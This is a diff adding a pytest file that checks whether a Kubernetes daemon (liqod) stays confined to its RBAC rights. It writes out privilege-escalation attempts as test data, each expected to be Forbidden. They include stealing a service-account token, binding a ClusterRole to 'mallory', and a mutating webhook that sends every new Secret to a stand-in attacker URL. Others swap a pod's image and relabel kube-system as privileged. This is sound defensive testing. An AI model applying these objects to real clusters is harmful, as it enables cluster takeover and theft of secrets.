@@ -1,0 +1,133 @@
+"""What the daemon's own rights would allow, tried with its kubeconfig: every hop to more."""
+
+from typing import Any
+
+import pytest
+
+from liqod.cli.snapshot import take
+from liqod.errors import Forbidden
+from liqod.kube.kinds import (
+    CLUSTER_ROLE_BINDINGS,
+    ENDPOINT_SLICES,
+    MUTATING_WEBHOOKS,
+    NAMESPACES,
+    NODES,
+    PODS,
+    ROLE_BINDINGS,
+    SECRETS,
+    Kind,
+)
+from liqod.model import labels
+from tests.simulated.lender import TENANT, Lender
+
+RBAC = {"apiGroup": "rbac.authorization.k8s.io"}
+TOKEN = {
+    "metadata": {
+        "name": "taken",
+        "annotations": {"kubernetes.io/service-account.name": "clusterrole-aggregation-controller"},
+    },
+    "type": "kubernetes.io/service-account-token",
+}
+POD = {"metadata": {"name": "taken"}, "spec": {"containers": [{"name": "a", "image": "a"}]}}
+BINDING = {
+    "metadata": {"name": "taken"},
+    "roleRef": {**RBAC, "kind": "ClusterRole", "name": labels.REMOTE_ROLE},
+    "subjects": [{**RBAC, "kind": "User", "name": "mallory"}],
+}
+SLICE = {"metadata": {"name": "taken"}, "addressType": "IPv4", "endpoints": [], "ports": []}
+
+
+def webhook(name: str) -> dict[str, Any]:
+    """One that is asked before every write of a Secret."""
+    rule = {
+        "apiGroups": [""],
+        "apiVersions": ["v1"],
+        "operations": ["CREATE"],
+        "resources": ["secrets"],
+    }
+    hook = {
+        "name": "a.example.com",
+        "clientConfig": {"url": "https://mallory.example/"},
+        "rules": [rule],
+        "admissionReviewVersions": ["v1"],
+        "sideEffects": "None",
+        "failurePolicy": "Ignore",
+    }
+    return {"metadata": {"name": name}, "webhooks": [hook]}
+
+
+HOPS: tuple[tuple[Kind, dict[str, Any], str | None, str], ...] = (
+    (SECRETS, TOKEN, "kube-system", "writes Secrets of tenant namespaces and its own only"),
+    (SECRETS, TOKEN, TENANT, "asks for no token of a ServiceAccount"),
+    (SECRETS, TOKEN, "liqo", "asks for no token of a ServiceAccount"),
+    (PODS, POD, "kube-system", "makes pods in namespaces of guests only"),
+    (PODS, POD, TENANT, "makes pods in namespaces of guests only"),
+    (ROLE_BINDINGS, BINDING, "kube-system", "binds nobody but peers"),
+    (CLUSTER_ROLE_BINDINGS, BINDING, None, "their own role only"),
+    (ENDPOINT_SLICES, SLICE, "default", "in namespaces of guests only"),
+    (NODES, {"metadata": {"name": "taken"}}, None, "writes virtual nodes only"),
+    (MUTATING_WEBHOOKS, webhook("taken"), None, "announces its own webhook only"),
+    (MUTATING_WEBHOOKS, webhook("liqod-webhook"), None, "is asked about new pods"),
+    (NAMESPACES, {"metadata": {"name": "taken"}}, None, "makes namespaces of peers only"),
+)
+
+
+def selecting(**selected: str) -> dict[str, Any]:
+    """Liqod's own webhook, asked about the pods of other namespaces than those that were chosen."""
+    made = webhook("liqod-webhook")
+    (hook,) = made["webhooks"]
+    hook["rules"][0]["resources"] = ["pods"]
+    marks = {key.replace("_", "/"): value for key, value in selected.items()}
+    hook["namespaceSelector"] = {"matchLabels": marks}
+    return made
+
+
+async def no_label_opens_the_fence(made: Lender) -> None:
+    """Namespaces become no tenant's and no less secure; running pods run what they ran."""
+    daemon, admin = made.home.client, made.admin
+    for marks in (
+        {labels.TENANT_NAMESPACE: labels.TRUE},
+        {labels.SCHEDULING_ENABLED: labels.TRUE},
+        {"pod-security.kubernetes.io/enforce": "privileged"},
+    ):
+        with pytest.raises(Forbidden, match="marks namespaces that are not a peer's"):
+            await daemon.patch(NAMESPACES, "kube-system", {"metadata": {"labels": marks}})
+    owner = {"apiVersion": "v1", "kind": "Node", "name": "gone", "uid": "gone"}
+    owned = {"metadata": {"ownerReferences": [owner]}}
+    with pytest.raises(Forbidden, match="marks namespaces that are not a peer's"):
+        await daemon.patch(NAMESPACES, "theirs", owned)
+    offloaded = {"metadata": {"labels": {labels.SCHEDULING_ENABLED: labels.TRUE}}}
+    await daemon.patch(NAMESPACES, "theirs", offloaded)
+    not_any_more = {"metadata": {"labels": {labels.SCHEDULING_ENABLED: None}}}
+    await daemon.patch(NAMESPACES, "theirs", not_any_more)
+    for selected in (
+        {"kubernetes.io_metadata.name": "kube-system"},
+        {"a": "b", "liqo.io_scheduling-enabled": "true"},
+    ):
+        with pytest.raises(Forbidden, match="is asked about new pods"):
+            await daemon.create(MUTATING_WEBHOOKS, selecting(**selected))
+    await admin.create(PODS, POD, "kube-system")
+    live = await admin.get(PODS, "taken", "kube-system")
+    live["spec"]["containers"][0]["image"] = "mallory"
+    spec = {"spec": {"containers": live["spec"]["containers"]}}
+    with pytest.raises(Forbidden, match="has no other image run"):
+        await daemon.patch(PODS, "taken", spec, "kube-system")
+    await daemon.patch(PODS, "taken", {"metadata": {"labels": {"a": "b"}}}, "kube-system")
+
+
+async def the_daemon_stays_inside_its_fence(made: Lender) -> None:
+    daemon = made.home.client
+    for kind, obj, namespace, why in HOPS:
+        with pytest.raises(Forbidden, match=why):
+            await daemon.create(kind, obj, namespace)
+    own = {"metadata": {"labels": {labels.REMOTE_CLUSTER_ID: "mallory"}}}
+    with pytest.raises(Forbidden, match="takes over and deletes no namespace"):
+        await daemon.patch(NAMESPACES, "kube-system", own)
+    await made.admin.create(NAMESPACES, {"metadata": {"name": "theirs"}})
+    with pytest.raises(Forbidden, match="takes over and deletes no namespace"):
+        await daemon.delete(NAMESPACES, "theirs")
+    await made.admin.create(SECRETS, {"metadata": {"name": "theirs"}}, "default")
+    with pytest.raises(Forbidden, match="tenant namespaces and its own only"):
+        await daemon.delete(SECRETS, "theirs", "default")
+    await no_label_opens_the_fence(made)
+    assert (await take(made.admin, "liqo")).policies == ()
